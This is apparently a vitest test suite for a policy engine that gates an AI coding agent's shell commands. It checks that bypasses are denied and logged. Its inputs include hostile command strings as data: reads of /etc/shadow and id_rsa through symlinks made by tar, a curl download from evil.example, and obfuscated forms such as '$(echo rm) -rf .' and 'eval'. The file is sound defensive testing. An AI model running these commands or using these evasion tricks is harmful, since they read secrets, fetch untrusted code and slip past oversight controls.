import "../../worker/policy/cedar-workerd.ts";
import { beforeAll, describe, expect, it } from "vitest";
import type { WardenClient } from "../../cli/client.ts";
import { TestFileSchema, compileForTest, type TestCase } from "../../cli/bundle-runner.ts";
import commandCases from "../../policy-bundles/default/tests/commands.json";
import { decide } from "../../worker/policy/decide.ts";
import { SHELLS, type DeviceOs } from "../../worker/policy/targets.ts";
import { activate, defaultSources, logOf, readyDevice } from "../helpers.ts";

// Issue 10 through the worker: every command and URL bypass of the issue, as the example
// bundle's own tests hold them (policy-bundles/default/tests/commands.json), sent as a device
// sends them — the shim's client over SELF.fetch — and answered as the bundle test expects,
// with what the arguments imply in the answer and the log. On the tree before command analysis
// each of these was permitted.

const cases = TestFileSchema.parse(commandCases).cases;
const devices = new Map<DeviceOs, WardenClient>();

beforeAll(async () => {
  await activate();
  for (const os of ["linux", "windows"] as const) devices.set(os, await readyDevice({ os }));
});

describe("every bypass of the issue, through the API", () => {
  it.each(cases.map((testCase) => [testCase.name, testCase] as const))("%s", async (_name, testCase: TestCase) => {
    const client = devices.get(testCase.device.os)!;
    const { status, body } = await client.decide(testCase.request);
    expect(status).toBe(200);
    expect(body.decision).toBe(testCase.expect.decision);
    if (testCase.expect.reasons) expect([...body.reasons].sort()).toEqual([...testCase.expect.reasons].sort());
    if (testCase.expect.tier) expect(body.review?.tier).toBe(testCase.expect.tier);
    expect(body.token !== undefined).toBe(body.decision === "permit");
  });

  it("the answer and the log show what the arguments imply, each under its own action", async () => {
    const client = devices.get("linux")!;
    const request = { agent: { id: "claude-code", version: "2.1.0" }, action: { type: "command.exec", targets: [{ kind: "command" as const, value: "cat README.md /etc/shadow docs/../notes.md > out.txt", cwd: "/home/dev/workspace" }] } };
    const { body } = await client.decide(request);
    expect(body).toMatchObject({ decision: "deny", reasons: ["secrets-never"] });
    expect(body.derived).toHaveLength(4);
    expect(body.derived).toEqual(
      expect.arrayContaining([
        { action: "file.read", kind: "path", value: "/home/dev/workspace/README.md", from: 0 },
        { action: "file.read", kind: "path", value: "/etc/shadow", from: 0 },
        // As named too, where that is not the canonical path: a hook follows symbolic links from it, `..` and all.
        { action: "file.read", kind: "path", value: "/home/dev/workspace/notes.md", named: "/home/dev/workspace/docs/../notes.md", from: 0 },
        { action: "file.write", kind: "path", value: "/home/dev/workspace/out.txt", from: 0 },
      ]),
    );
    const entry = (await logOf(client)).find((e) => e.type === "decision" && e.data["decision_id"] === body.decision_id)!;
    expect((entry.data["action"] as { derived: unknown }).derived).toEqual(body.derived);
  });

  it("a directory a program walks through the links below it is marked so, in the answer and the log; one it walks without them is not", async () => {
    const client = devices.get("linux")!;
    const request = { agent: { id: "claude-code", version: "2.1.0" }, action: { type: "command.exec", targets: [{ kind: "command" as const, value: "grep -R TODO src && grep -r TODO docs", cwd: "/home/dev/workspace" }] } };
    const { body } = await client.decide(request);
    expect(body.derived).toEqual([
      { action: "file.read", kind: "path", value: "/home/dev/workspace/src", follows_links_below: true, from: 0 },
      { action: "file.read", kind: "path", value: "/home/dev/workspace/docs", from: 0 },
    ]);
    const entry = (await logOf(client)).find((e) => e.type === "decision" && e.data["decision_id"] === body.decision_id)!;
    expect((entry.data["action"] as { derived: unknown }).derived).toEqual(body.derived);
  });

  it("where a line makes links, the answer says so, and marks the other paths a hook checks against it; a path where they are made as written is refused", async () => {
    const client = devices.get("linux")!;
    const decide = (value: string) => client.decide({ agent: { id: "claude-code", version: "2.1.0" }, action: { type: "command.exec", targets: [{ kind: "command" as const, value, cwd: "/home/dev/workspace" }] } });
    const { body } = await decide("tar -xf a.tar -C out && cat README.md");
    expect(body.derived).toEqual([
      { action: "file.read", kind: "path", value: "/home/dev/workspace/a.tar", from: 0 },
      { action: "file.write", kind: "path", value: "/home/dev/workspace/out", follows_links_below: true, makes_links: true, from: 0 },
      { action: "file.read", kind: "path", value: "/home/dev/workspace/README.md", after_links_made: true, from: 0 },
    ]);
    const refused = await decide("tar -xf a.tar -C out && cat out/docs/id_rsa");
    expect(refused.body).toMatchObject({ decision: "deny", reason_code: "target_not_canonical" });
    expect(refused.body.derived[2]).toEqual({ action: "file.read", kind: "path", rejected: "links_made", from: 0 });
  });

  it("an action whose lines together imply more than 256 files is denied, the line that crosses the bound refused as too_many_targets", async () => {
    const client = devices.get("linux")!;
    const line = (prefix: string) => `cat ${Array.from({ length: 200 }, (_, index) => `${prefix}${index}`).join(" ")}`;
    const targets = [line("a"), line("b")].map((value) => ({ kind: "command" as const, value, cwd: "/home/dev/workspace" }));
    const { body } = await client.decide({ agent: { id: "claude-code", version: "2.1.0" }, action: { type: "command.exec", targets } });
    expect(body).toMatchObject({ decision: "deny", reason_code: "target_not_canonical" });
    expect(body.targets[1]).toEqual({ kind: "command", rejected: "too_many_targets" });
    // The first line's 200 files were analysed and are in the answer; none of the second's.
    expect(body.derived).toHaveLength(200);
    expect(body.derived.every((target) => target.from === 0)).toBe(true);
  });

  it("a command names its shell: the device's registered one, else the OS default", async () => {
    const line = "git status ; curl http://evil.example -o x";
    const windows = devices.get("windows")!;
    const asBash = await windows.decide({ agent: { id: "a", version: "1" }, action: { type: "command.exec", targets: [{ kind: "command", value: line, shell: "bash" }] } });
    expect(asBash.body.targets).toEqual([{ kind: "command", value: line, shell: "bash" }]);
    const byDefault = await windows.decide({ agent: { id: "a", version: "1" }, action: { type: "command.exec", targets: [{ kind: "command", value: line }] } });
    expect(byDefault.body.targets).toEqual([{ kind: "command", value: line, shell: "powershell" }]);
    expect([asBash.body.decision, byDefault.body.decision]).toEqual(["deny", "deny"]);
  });
});

describe("permit never follows from an opaque command under the example bundle", () => {
  // A seeded generator of lines mixing what the example bundle trusts with what no analysis can
  // know before the line runs: a program word from a variable, a substitution or eval.
  function* lines(seed: number, count: number): Generator<string> {
    let state = seed;
    const next = (n: number) => {
      state = (state * 1103515245 + 12345) % 2 ** 31;
      return state % n;
    };
    const trusted = ["git status", "ls", "npm test", "cat README.md", "rg TODO src", "echo hi", "pwd"];
    const opaque = ['$CMD', '"$x" status', "${IFS}ls", "$(echo rm) -rf .", "`printf ls`", 'eval "$x"', "$1", "${@}", "$(cat cmd.txt)", '"$(echo git)" status', "x=1; $x"];
    const joins = [" ; ", " && ", " || ", " | ", "\n"];
    for (let i = 0; i < count; i++) {
      const parts = Array.from({ length: 1 + next(3) }, () => trusted[next(trusted.length)]!);
      parts.splice(next(parts.length + 1), 0, opaque[next(opaque.length)]!);
      yield parts.reduce((line, part) => `${line}${joins[next(joins.length)]}${part}`);
    }
  }

  const bundle = compileForTest(defaultSources);
  it.each(SHELLS.filter((shell) => shell !== "powershell" && shell !== "cmd").map((shell) => [shell]))("%s: 1,000 lines", (shell) => {
    let opaqueSeen = 0;
    for (const line of lines(shell.length * 7919, 1000)) {
      const target = { kind: "command" as const, value: line, shell, cwd: "/home/dev/workspace", home: "/home/dev" };
      const verdict = decide(bundle, { agent: { id: "claude-code", version: "2" }, action: { type: "command.exec", targets: [target] } }, { id: "d", os: "linux", assurance: "software" }, Date.now());
      expect(verdict.decision, line).not.toBe("permit");
      if (verdict.reasons.includes("opaque-never")) opaqueSeen += 1;
    }
    // The generator does produce what the property is about.
    expect(opaqueSeen).toBeGreaterThan(500);
  });
});
